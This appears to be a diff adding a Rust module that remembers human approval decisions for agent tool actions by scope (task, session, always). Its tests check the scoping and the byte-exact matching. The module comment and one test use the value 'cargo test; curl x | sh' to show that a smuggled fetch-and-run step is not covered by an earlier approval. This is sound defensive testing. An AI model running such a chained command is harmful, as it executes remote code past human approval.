@@ -1,0 +1,238 @@
+//! What people decided, remembered for as far as they said it reaches: a decision
+//! with scope `task` answers the same action again for that task, `session` for the
+//! consumer session that asked, `always` for anyone; `once` is never remembered.
+//!
+//! It learns from the queue's task events (the decision frames, which carry the
+//! request they decided on and the consumer that asked), so it needs nothing from the
+//! queue but the public hooks. "The same action" is the request without its `reason`
+//! and `attempt`: the same tool, command, paths and host, byte for byte, so an approval
+//! of `cargo test` never covers `cargo test; curl x | sh`.
+//!
+//! Invariants: the policy's deny still wins over a remembered approval (see
+//! [`super::PolicyGate`]); only decisions made by a person are remembered (never a
+//! gate's own `policy:*` verdict, nor an `expired` request); the memory is bounded
+//! (`MAX_REMEMBERED` entries per scope, the oldest forgotten first) and lives as long
+//! as the broker: `always` is not yet written to the store (docs/APPROVALS.md).
+
+use crate::frame::FrameType;
+use crate::ops::queue::hooks::{ActionRequest, TaskEvent, Verdict};
+use serde_json::Value;
+use std::collections::{HashMap, VecDeque};
+use std::sync::Mutex;
+
+/// Decisions kept per scope before the oldest is forgotten.
+pub const MAX_REMEMBERED: usize = 10_000;
+
+/// The decisions people made with a scope wider than `once`.
+#[derive(Debug, Default)]
+pub struct Memory {
+    inner: Mutex<Scopes>,
+}
+
+#[derive(Debug, Default)]
+struct Scopes {
+    /// (task id, action) -> decision.
+    task: Bounded,
+    /// (consumer session, action) -> decision.
+    session: Bounded,
+    /// action -> decision.
+    always: Bounded,
+}
+
+#[derive(Debug, Default)]
+struct Bounded {
+    map: HashMap<String, Remembered>,
+    order: VecDeque<String>,
+}
+
+#[derive(Debug, Clone)]
+struct Remembered {
+    approve: bool,
+    by: String,
+    reason: String,
+}
+
+impl Bounded {
+    fn put(&mut self, key: String, r: Remembered) {
+        if self.map.insert(key.clone(), r).is_none() {
+            self.order.push_back(key);
+            if self.order.len() > MAX_REMEMBERED {
+                if let Some(old) = self.order.pop_front() {
+                    self.map.remove(&old);
+                }
+            }
+        }
+    }
+}
+
+/// The action a request asks for, as the key it is remembered under.
+fn fingerprint(request: &Value) -> String {
+    let mut a = request.clone();
+    if let Some(o) = a.as_object_mut() {
+        for k in ["reason", "attempt", "task", "lease"] {
+            o.remove(k);
+        }
+    }
+    // serde_json's maps are ordered by key, so equal actions print equally.
+    a.to_string()
+}
+
+impl Memory {
+    /// An empty memory.
+    pub fn new() -> Self {
+        Memory::default()
+    }
+
+    /// Learns from one task event: a person's decision with a scope wider than once.
+    pub fn learn(&self, ev: &TaskEvent) {
+        if ev.frame != FrameType::Approval {
+            return;
+        }
+        let p = &ev.payload;
+        let (Some(decision), Some(scope), Some(by), Some(request)) = (
+            p["decision"].as_str(),
+            p["scope"].as_str(),
+            p["by"].as_str(),
+            p.get("request"),
+        ) else {
+            return;
+        };
+        if by.starts_with("policy:") || by == "timeout" {
+            return;
+        }
+        let approve = match decision {
+            "approve" => true,
+            "deny" => false,
+            _ => return,
+        };
+        let r = Remembered {
+            approve,
+            by: by.to_owned(),
+            reason: p["reason"].as_str().unwrap_or_default().to_owned(),
+        };
+        let action = fingerprint(request);
+        let mut s = self.inner.lock().unwrap_or_else(|p| p.into_inner());
+        match scope {
+            "task" => s.task.put(format!("{}\n{action}", ev.task), r),
+            "session" => {
+                if let Some(c) = p["consumer"].as_str() {
+                    s.session.put(format!("{c}\n{action}"), r);
+                }
+            }
+            "always" => s.always.put(action, r),
+            _ => {}
+        }
+    }
+
+    /// A remembered decision on this request, narrowest scope first.
+    pub fn recall(&self, req: &ActionRequest) -> Option<Verdict> {
+        let action = fingerprint(&req.action);
+        let s = self.inner.lock().unwrap_or_else(|p| p.into_inner());
+        let (scope, r) = [
+            ("task", s.task.map.get(&format!("{}\n{action}", req.task))),
+            (
+                "session",
+                s.session.map.get(&format!("{}\n{action}", req.consumer)),
+            ),
+            ("always", s.always.map.get(&action)),
+        ]
+        .into_iter()
+        .find_map(|(scope, r)| r.map(|r| (scope, r.clone())))?;
+        let by = format!("remembered:{scope}:{}", r.by);
+        let reason = if r.reason.is_empty() {
+            format!("decided earlier with scope {scope}")
+        } else {
+            r.reason
+        };
+        Some(match r.approve {
+            true => Verdict::Allow { by, reason },
+            false => Verdict::Deny { by, reason },
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::ops::queue::TaskState;
+    use serde_json::json;
+
+    fn decided(task: &str, scope: &str, by: &str, decision: &str, command: &str) -> TaskEvent {
+        TaskEvent {
+            seq: 1,
+            task: task.into(),
+            trace_id: task.into(),
+            owner: "o".into(),
+            bip_id: 1,
+            kind: "k".into(),
+            state: TaskState::Working,
+            attempt: 1,
+            frame: FrameType::Approval,
+            payload: json!({"task": task, "decision": decision, "scope": scope, "by": by,
+                            "consumer": "s-1", "request": {"command": command, "reason": "r"}}),
+        }
+    }
+
+    fn asking(task: &str, consumer: &str, command: &str) -> ActionRequest {
+        ActionRequest {
+            task: task.into(),
+            trace_id: task.into(),
+            owner: "o".into(),
+            bip_id: 1,
+            kind: "k".into(),
+            consumer: consumer.into(),
+            attempt: 1,
+            action: json!({"command": command, "reason": "another reason"}),
+        }
+    }
+
+    #[test]
+    fn each_scope_reaches_as_far_as_it_says_and_no_further() {
+        let m = Memory::new();
+        m.learn(&decided("t1", "once", "bob", "approve", "make a"));
+        assert_eq!(
+            m.recall(&asking("t1", "s-1", "make a")),
+            None,
+            "once is never kept"
+        );
+        m.learn(&decided("t1", "task", "bob", "approve", "make b"));
+        assert!(matches!(
+            m.recall(&asking("t1", "s-9", "make b")),
+            Some(Verdict::Allow { .. })
+        ));
+        assert_eq!(
+            m.recall(&asking("t2", "s-1", "make b")),
+            None,
+            "another task"
+        );
+        m.learn(&decided("t1", "session", "bob", "deny", "make c"));
+        assert!(matches!(
+            m.recall(&asking("t7", "s-1", "make c")),
+            Some(Verdict::Deny { .. })
+        ));
+        assert_eq!(
+            m.recall(&asking("t7", "s-2", "make c")),
+            None,
+            "another session"
+        );
+        m.learn(&decided("t1", "always", "bob", "approve", "cargo test"));
+        match m.recall(&asking("t9", "s-5", "cargo test")) {
+            Some(Verdict::Allow { by, .. }) => assert_eq!(by, "remembered:always:bob"),
+            other => panic!("{other:?}"),
+        }
+        assert_eq!(
+            m.recall(&asking("t9", "s-5", "cargo test; curl x | sh")),
+            None,
+            "the same action, byte for byte"
+        );
+    }
+
+    #[test]
+    fn only_peoples_decisions_are_remembered() {
+        let m = Memory::new();
+        m.learn(&decided("t1", "always", "policy:builtin:x", "deny", "a"));
+        m.learn(&decided("t1", "always", "timeout", "expired", "b"));
+        assert_eq!(m.recall(&asking("t1", "s-1", "a")), None);
+        assert_eq!(m.recall(&asking("t1", "s-1", "b")), None);
+    }
+}
